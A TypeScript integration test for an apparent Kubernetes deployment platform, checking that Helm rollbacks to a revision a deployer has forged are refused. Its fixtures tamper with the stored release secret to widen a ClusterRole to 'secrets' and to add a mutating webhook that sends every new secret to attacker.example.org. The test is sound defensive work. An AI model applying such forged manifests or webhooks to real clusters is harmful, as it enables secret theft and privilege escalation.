import { StorageV1Api } from '@kubernetes/client-node'
import type { App } from '@quayside/contract/apps/endpoints'
import type { CatalogChild } from '@quayside/contract/catalog/endpoints'
import { packFiles } from '@quayside/embedded/seed/chart-package'
import { packRelease, unpackRelease } from '@quayside/embedded/story/helm-release'
import { createStory, deployDataOf, type Story } from '@quayside/embedded/story/story'
import { World } from '@quayside/embedded/world'
import { afterAll, beforeAll, describe, expect, it, test } from 'vitest'
import { askCluster } from '../kubectl-user.ts'
import { type Team, type Teams, teamsOn } from '../team-with-charts.ts'

const actions = '/deployment/v1/helm/deployment/actions'
const rbac = 'rbac.authorization.k8s.io'
const admission = 'admissionregistration.k8s.io'
const storageClass = (name: string) => `---
apiVersion: storage.k8s.io/v1
kind: StorageClass
metadata: { name: ${name} }
provisioner: example.org/disk
`
const webhook = `---
apiVersion: ${admission}/v1
kind: MutatingWebhookConfiguration
metadata: { name: forged }
webhooks:
  - name: all.forged.example.org
    admissionReviewVersions: [v1]
    sideEffects: None
    failurePolicy: Ignore
    clientConfig: { url: 'https://attacker.example.org/' }
    rules: [{ apiGroups: [''], apiVersions: [v1], operations: [CREATE], resources: [secrets] }]
`
/** A cluster role that stays the same between revisions, and a ConfigMap that does not. */
const objects = `apiVersion: v1
kind: ConfigMap
metadata: { name: ours-{{ .Release.Name }} }
data: { a: {{ .Values.a | quote }} }
---
apiVersion: ${rbac}/v1
kind: ClusterRole
metadata: { name: ours-{{ .Release.Name }} }
rules: [{ apiGroups: [''], resources: [{{ .Values.resource }}], verbs: [get] }]
`

let world: World
let teams: Teams
let mine: Team
/** The account whose charts the cluster trusts. */
let publisher: Story
let charts = 0

/** A chart that the trusted account has uploaded. */
async function upload(): Promise<CatalogChild> {
  charts += 1
  const name = `ours-${charts}`
  return publisher.upload(
    await packFiles(name, {
      'Chart.yaml': `apiVersion: v2\nname: ${name}\nversion: 1.0.0\n`,
      'values.yaml': 'a: b\nresource: nodes\n',
      'templates/objects.yaml': objects,
    }),
  )
}

const list = (rule: object) => teams.admin.good(`/cluster/v1/clusters/${teams.cluster.id}/rules`, { body: rule })

/** Deploys a chart of the publisher and upgrades it, so that there is a revision to go back to. */
async function deployed(child: CatalogChild, revisions: readonly string[]): Promise<App> {
  const made = await mine.story.assign(mine.space, child)
  const releaseName = await mine.story.releaseName(made, 'ours')
  for (const [at, yaml] of revisions.entries()) {
    const { actionId } = await mine.story.good<{ actionId: string }>(`${actions}.${at === 0 ? 'Deploy' : 'Upgrade'}`, {
      body: {
        ...{ appId: made.id, versionId: child.version.id, ...(at === 0 ? { releaseName } : {}) },
        deployData: deployDataOf(made, mine.space, child, yaml),
      },
    })
    expect(await mine.story.ended(actionId)).toMatchObject({ state: 'Success' })
  }
  return mine.story.good<App>(`/portal-api/v2/apps/${made.id}`)
}

/** Writes another manifest into the first revision, by the kubeconfig of a deployer. */
async function forge({ releaseName }: App, change: (manifest: string) => string): Promise<void> {
  const { kubeconfig } = await mine.story.good<{ kubeconfig: string }>('/cluster/v1/kubeconfigs', {
    body: { places: [{ spaceId: mine.space.id, clusterId: teams.cluster.id }] },
  })
  const path = `/api/v1/namespaces/{namespace}/secrets/sh.helm.release.v1.${releaseName}.v1`
  const secret = JSON.parse((await askCluster(kubeconfig, path)).text)
  const release = unpackRelease(secret.data)
  secret.data = { ...secret.data, ...packRelease({ ...release, manifest: change(release.manifest) }) }
  expect((await askCluster(kubeconfig, path, { method: 'PUT', body: secret })).status).toBe(200)
}

/** The state of a rollback to the first revision, with what is said of it. */
async function rollBack({ id }: App, by = mine.story) {
  const action = await teams.act('Rollback', { appId: id, revision: 1 }, by)
  return [action.state, action.result?.summary]
}

const resourcesOf = async ({ releaseName }: App) =>
  (await teams.clients.rbac.readClusterRole({ name: `ours-${releaseName}` })).rules?.flatMap(
    ({ resources }) => resources ?? [],
  )

beforeAll(async () => {
  world = await World.start({ cluster: { speed: 10 } })
  teams = await teamsOn(world)
  mine = await teams.team()
  publisher = createStory(world, await world.tokenFor({ realmRoles: ['quayside-admin'] }))
  await upload()
  const { username } = await publisher.good<{ username: string }>('/iam/v2/account')
  await list({ group: rbac, kind: 'ClusterRole', publisher: username })
  await list({ group: 'storage.k8s.io', kind: 'StorageClass', name: 'by-publisher', publisher: username })
  await list({ group: admission, kind: 'MutatingWebhookConfiguration', publisher: username })
})
afterAll(() => world?.close())

describe('a revision that a deployer has written', () => {
  it.each(['by-publisher', 'by-item'])('makes nothing that the list has %s', async (name) => {
    const child = await upload()
    if (name === 'by-item') await list({ group: 'storage.k8s.io', kind: 'StorageClass', name, itemId: child.item.id })
    const app = await deployed(child, ['a: one\n', 'a: two\n'])
    await forge(app, (manifest) => manifest + storageClass(name))
    expect(await rollBack(app)).toEqual([
      'Failed',
      expect.stringMatching(
        new RegExp(`StorageClass ${name} is on the list .+Upgrade to the version and values of that revision instead`),
      ),
    ])
    const { items } = await teams.kubeconfig.makeApiClient(StorageV1Api).listStorageClass()
    expect(items.map(({ metadata }) => metadata?.name)).not.toContain(name)
  })

  test('makes no webhook either, when an administrator goes back to it', async () => {
    const app = await deployed(await upload(), ['a: one\n', 'a: two\n'])
    await forge(app, (manifest) => manifest + webhook)
    expect(await rollBack(app, teams.admin)).toEqual(['Failed', expect.stringContaining('is on the list')])
    const { items } = await teams.clients.admission.listMutatingWebhookConfiguration()
    expect(items.map(({ metadata }) => metadata?.name)).not.toContain('forged')
  })

  test('gives a role of the publisher no other rules', async () => {
    const app = await deployed(await upload(), ['a: one\n', 'a: two\n'])
    await forge(app, (manifest) => manifest.replace(/\bnodes\b/, 'secrets'))
    expect(await rollBack(app)).toEqual(['Failed', expect.stringContaining('Upgrade to the version and values')])
    expect(await resourcesOf(app)).toEqual(['nodes'])
  })
})

describe('a rollback of what the publisher has made', () => {
  test('is done where what is outside of the space stays as the cluster was let have it', async () => {
    const app = await deployed(await upload(), ['a: one\n', 'a: two\n'])
    expect(await rollBack(app)).toEqual(['Success', expect.anything()])
    expect(await resourcesOf(app)).toEqual(['nodes'])
  })
})
